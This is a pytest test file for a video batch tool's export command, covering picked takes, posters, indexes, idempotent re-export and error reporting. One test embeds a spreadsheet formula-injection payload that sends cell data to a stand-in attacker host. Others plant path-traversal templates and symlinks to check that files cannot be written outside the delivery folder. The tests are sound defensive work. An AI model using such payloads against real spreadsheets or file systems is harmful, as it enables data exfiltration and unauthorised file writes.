"""``batchgen export``: a delivery folder from a real 3 rows x 2 takes batch: picked or --all, named by a
template that cannot leave the folder, posters and an index, idempotent, loud about missing or altered videos."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from PIL import Image
from runner_helpers import make_images, run_cli, write_manifest
from test_review import build_takes_batch

from batchgen.cli import main
from batchgen.errors import OutputPathError, UsageError
from batchgen.export import export
from batchgen.picks import group_rows, make_pick, save_picks
from batchgen.probe import probe_video
from batchgen.state import load


@pytest.fixture
def picked(make_sim, tmp_path, monkeypatch) -> Path:
    """The batch with take 2 of row 1 and take 1 of row 2 picked, row 3 marked for redo."""
    monkeypatch.chdir(tmp_path)
    state_path = build_takes_batch(make_sim, tmp_path)
    rows = group_rows(load(state_path))
    save_picks(state_path.parent, {rows[0].key: make_pick(rows[0], "picked", rows[0].takes[1].key),
                                   rows[1].key: make_pick(rows[1], "picked", rows[1].takes[0].key),
                                   rows[2].key: make_pick(rows[2], "redo", note="slower")})
    return state_path


def _snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    return {p.relative_to(folder).as_posix(): (p.stat().st_ino, p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_export_takes_the_output_folder_for_its_state_file(picked, tmp_path, capsys):
    assert main(["export", str(picked.parent), "--to", str(tmp_path / "delivery")]) == 0
    assert "2 written, 0 unchanged" in capsys.readouterr().out


def test_export_delivers_the_picked_takes_with_posters_and_an_index(picked, tmp_path, capsys):
    dest = tmp_path / "delivery"
    assert main(["export", str(picked), "--to", str(dest)]) == 0
    assert "2 written, 0 unchanged" in capsys.readouterr().out
    assert sorted(p.name for p in dest.iterdir()) == [
        "index.csv", "index.json", "shot00-4s-720p-take2.jpg", "shot00-4s-720p-take2.mp4",
        "shot01-4s-720p-take1.jpg", "shot01-4s-720p-take1.mp4"]
    out = picked.parent
    for name in ("shot00-4s-720p-take2.mp4", "shot01-4s-720p-take1.mp4"):
        assert (dest / name).stat().st_ino == (out / name).stat().st_ino, "same device: hard-linked, not copied"
        with Image.open((dest / name).with_suffix(".jpg")) as poster:
            assert poster.format == "JPEG" and poster.width > 0
    state = load(picked)
    by_id = {r.id: r for r in state.jobs.values()}
    index = json.loads((dest / "index.json").read_text())["videos"]
    assert [v["id"] for v in index] == ["shot00-4s-720p-take2", "shot01-4s-720p-take1"]
    first = index[0]
    info = probe_video(dest / first["file"])
    assert first == {"id": "shot00-4s-720p-take2", "file": "shot00-4s-720p-take2.mp4", "source_image": "img/shot00.png",
                     "prompt": "slow push-in on product 0", "model_used": "openai/sora-2/image-to-video-pro",
                     "duration": round(info.duration, 3), "resolution": f"{info.width}x{info.height}", "cost": 1.2,
                     "prediction_id": by_id["shot00-4s-720p-take2"].pid}
    with open(dest / "index.csv", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [r["id"] for r in table] == [v["id"] for v in index]
    assert table[1]["prediction_id"] == by_id["shot01-4s-720p-take1"].pid and table[1]["cost"] == "1.2"


def test_export_again_touches_nothing_and_a_changed_pick_replaces_the_old_file(picked, tmp_path):
    dest = tmp_path / "delivery"
    export(picked, dest)
    before = _snapshot(dest)
    again = export(picked, dest)
    assert (again.written, again.unchanged, again.removed, again.problems) == (
        [], ["shot00-4s-720p-take2.mp4", "shot01-4s-720p-take1.mp4"], [], [])
    assert _snapshot(dest) == before, "same files, same inodes, same times"
    rows = group_rows(load(picked))
    picks = json.loads((picked.parent / "picks.json").read_text())["rows"]
    picks[rows[0].key] = make_pick(rows[0], "picked", rows[0].takes[0].key)
    save_picks(picked.parent, picks)
    changed = export(picked, dest)
    assert changed.written == ["shot00-4s-720p-take1.mp4"] and changed.removed == ["shot00-4s-720p-take2.mp4"]
    assert sorted(p.name for p in dest.glob("*.mp4")) == ["shot00-4s-720p-take1.mp4", "shot01-4s-720p-take1.mp4"]
    assert not (dest / "shot00-4s-720p-take2.jpg").exists()
    assert (picked.parent / "shot00-4s-720p-take2.mp4").is_file(), "the batch's own video is never removed"


def test_all_exports_every_download_under_a_name_template(picked, tmp_path):
    dest = tmp_path / "everything"
    result = export(picked, dest, template="{stem}/{model_name}-take{take}-{duration}s", everything=True)
    assert result.problems == [] and len(result.written) == 6
    assert sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*.mp4")) == [
        f"shot0{i}/image-to-video-pro-take{t}-4s.mp4" for i in range(3) for t in (1, 2)]
    assert len(list(dest.rglob("*.jpg"))) == 6
    again = export(picked, dest, everything=True)
    assert len(again.written) == len(again.removed) == 6
    assert sorted(p.name for p in dest.iterdir() if p.is_dir()) == [], "the emptied {stem} folders go too"


@pytest.mark.parametrize("template, error, words", [
    ("../{id}", UsageError, "climbs out"),
    ("/tmp/{id}", UsageError, "absolute path"),
    ("{prompt}", UsageError, "unknown placeholder {prompt}"),
    ("{stem}", OutputPathError, "the same file"),
    ("link/{id}", OutputPathError, "outside"),
])
def test_names_stay_inside_the_folder_and_never_collide(picked, tmp_path, template, error, words):
    dest = tmp_path / "delivery"
    dest.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, dest / "link")
    with pytest.raises(error, match=words):
        export(picked, dest, template=template, everything=True)
    assert list(outside.iterdir()) == [] and not list(dest.rglob("*.mp4"))


def test_a_missing_or_altered_source_is_reported_with_its_job_and_fails_the_command(picked, tmp_path, capsys):
    out, dest = picked.parent, tmp_path / "delivery"
    export(picked, dest)                                # a good delivery first: its copies must survive
    delivered = (dest / "shot01-4s-720p-take1.mp4").read_bytes()
    (out / "shot00-4s-720p-take2.mp4").unlink()
    video = out / "shot01-4s-720p-take1.mp4"
    data = bytearray(video.read_bytes())
    data[-1] ^= 0xFF                                    # same size, different bytes, saved as a new file
    video.unlink()
    video.write_bytes(bytes(data))
    assert main(["export", str(picked), "--to", str(dest), "--all"]) == 1
    printed = capsys.readouterr().out
    assert "job shot00-4s-720p-take2:" in printed and "is missing" in printed
    assert "job shot01-4s-720p-take1:" in printed and "was altered since it was downloaded" in printed
    assert "4 written" in printed
    assert sorted(p.name for p in dest.glob("*.mp4")) == [f"shot0{i}-4s-720p-take{t}.mp4" for i in range(3) for t in (1, 2)]
    assert (dest / "shot01-4s-720p-take1.mp4").read_bytes() == delivered, "an altered source never replaces a delivery"
    index = json.loads((dest / "index.json").read_text())["videos"]
    assert [v["id"] for v in index] == [f"shot0{i}-4s-720p-take{t}" for i in range(3) for t in (1, 2)], (
        "the index lists what the folder holds, the earlier copies kept included")
    # Picked away from the broken takes: their earlier copies go like any other no longer picked.
    rows = group_rows(load(picked))
    save_picks(out, {rows[0].key: make_pick(rows[0], "picked", rows[0].takes[0].key),
                     rows[1].key: make_pick(rows[1], "picked", rows[1].takes[1].key)})
    again = export(picked, dest)
    assert again.problems == [] and sorted(p.name for p in dest.glob("*.mp4")) == [
        "shot00-4s-720p-take1.mp4", "shot01-4s-720p-take2.mp4"]


def test_nothing_picked_says_how_to_pick_or_export_everything(make_sim, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    state_path = build_takes_batch(make_sim, tmp_path)
    assert main(["export", str(state_path), "--to", str(tmp_path / "d")]) == 2
    err = capsys.readouterr().err
    assert "nothing picked" in err and "batchgen review" in err and "--all" in err


def test_the_output_folder_itself_is_not_a_delivery_folder(picked, capsys):
    assert main(["export", str(picked), "--to", str(picked.parent)]) == 2
    assert "is the batch's own output folder" in capsys.readouterr().err
    assert not (picked.parent / "index.json").exists()


def test_a_prompt_a_spreadsheet_would_run_is_plain_text_in_the_csv_and_exact_in_the_json(make_sim, tmp_path,
                                                                                          monkeypatch):
    monkeypatch.chdir(tmp_path)
    make_images(tmp_path / "img", 2)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)"]
    write_manifest(tmp_path, [{"image": f"img/shot0{i}.png", "prompt": text, "duration": 4}
                              for i, text in enumerate(formulas)])
    assert run_cli(make_sim(), tmp_path / "batch.yaml", tmp_path / "out") == 0
    dest = tmp_path / "delivery"
    assert export(tmp_path / "out" / "state.jsonl", dest, everything=True).problems == []
    with open(dest / "index.csv", newline="") as handle:
        assert [row["prompt"] for row in csv.DictReader(handle)] == ["'" + text for text in formulas]
    assert [v["prompt"] for v in json.loads((dest / "index.json").read_text())["videos"]] == formulas


def test_a_delivery_folder_above_the_batch_never_deletes_or_overwrites_the_batchs_videos(picked, tmp_path):
    out = picked.parent                                             # tmp_path/out: --to tmp_path lies above it
    videos = sorted(p.name for p in out.glob("*.mp4"))
    with pytest.raises(OutputPathError, match="inside the batch's own output folder"):
        export(picked, tmp_path, template="out/{id}", everything=True)
    # An index.json (an older batchgen's, or edited) listing the batch's videos: a re-export removes none.
    (tmp_path / "index.json").write_text(json.dumps({"version": 1, "videos": [{"file": f"out/{v}"} for v in videos]}))
    result = export(picked, tmp_path)
    assert result.removed == [] and result.problems == []
    assert sorted(p.name for p in out.glob("*.mp4")) == videos and not list(out.glob("*.jpg"))


def test_a_file_given_as_the_delivery_folder_or_a_note_in_the_name_is_a_usage_error(picked, tmp_path, capsys):
    (tmp_path / "afile").write_text("not a folder")
    assert main(["export", str(picked), "--to", str(tmp_path / "afile"), "--all"]) == 2
    assert main(["export", str(picked), "--to", str(tmp_path / "afile" / "sub"), "--all"]) == 2
    err = capsys.readouterr().err
    assert err.count("cannot make the delivery folder there") == 2 and "internal error" not in err
    assert main(["export", str(picked), "--to", str(tmp_path / "d"), "--name", "{id}-{note}"]) == 2
    err = capsys.readouterr().err
    assert "unknown placeholder {note}" in err and "{note}" not in err.split("known here:")[1]


def test_names_that_differ_only_by_case_collide(make_sim, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    first, second = make_images(tmp_path / "img", 2)
    first.rename(tmp_path / "img" / "Mug.png")
    second.rename(tmp_path / "img" / "mug.png")
    write_manifest(tmp_path, [{"image": f"img/{name}", "prompt": "turn", "duration": 4, "output": f"{n}-{{stem}}"}
                              for n, name in enumerate(("Mug.png", "mug.png"))])
    assert run_cli(make_sim(), tmp_path / "batch.yaml", tmp_path / "out") == 0
    with pytest.raises(OutputPathError, match=r"the same file Mug\.mp4 \(up to case: mug\.mp4\)"):
        export(tmp_path / "out" / "state.jsonl", tmp_path / "delivery", template="{stem}", everything=True)


def test_a_name_given_to_another_video_gets_that_videos_poster(picked, tmp_path):
    dest = tmp_path / "delivery"
    rows = group_rows(load(picked))
    save_picks(picked.parent, {rows[0].key: make_pick(rows[0], "picked", rows[0].takes[0].key)})
    export(picked, dest, template="take{take}")
    first = (dest / "take1.jpg").read_bytes()
    save_picks(picked.parent, {rows[2].key: make_pick(rows[2], "picked", rows[2].takes[0].key)})
    assert export(picked, dest, template="take{take}").written == ["take1.mp4"]
    fresh = tmp_path / "fresh"
    export(picked, fresh, template="take{take}")
    assert (dest / "take1.jpg").read_bytes() == (fresh / "take1.jpg").read_bytes() != first


def test_a_link_planted_in_the_delivery_folder_is_never_written_through(picked, tmp_path):
    dest, outside = tmp_path / "delivery", tmp_path / "outside.txt"
    dest.mkdir()
    outside.write_text("keep me")
    for name in (".index.json.tmp", ".index.csv.tmp", "index.json.part"):
        os.symlink(outside, dest / name)
    with pytest.raises(OutputPathError, match="index.json.part"):
        export(picked, dest)
    (dest / "index.json.part").unlink()
    assert export(picked, dest).problems == []
    assert outside.read_text() == "keep me" and json.loads((dest / "index.json").read_text())["videos"]


def test_a_pick_whose_take_is_no_longer_in_its_row_is_named_and_fails_the_command(picked, tmp_path, capsys):
    """Picked, then the job was edited and ran again (a new key), or the row moved to another line."""
    picks = json.loads((picked.parent / "picks.json").read_text())["rows"]
    rows = group_rows(load(picked))
    picks[rows[2].key] = {**make_pick(rows[2], "picked", rows[2].takes[0].key), "take": "key-of-an-older-version"}
    picks["batch.yaml:99#img/gone.png"] = {"status": "picked", "take": "k", "job": "gone-take1", "note": ""}
    save_picks(picked.parent, picks)
    assert main(["export", str(picked), "--to", str(tmp_path / "delivery")]) == 1
    out = capsys.readouterr().out
    assert "2 written" in out and f"row {rows[2].key}: the picked take (job shot02-4s-720p-take1) is no longer" in out
    assert "row batch.yaml:99#img/gone.png: the picked take (job gone-take1)" in out and "pick again" in out
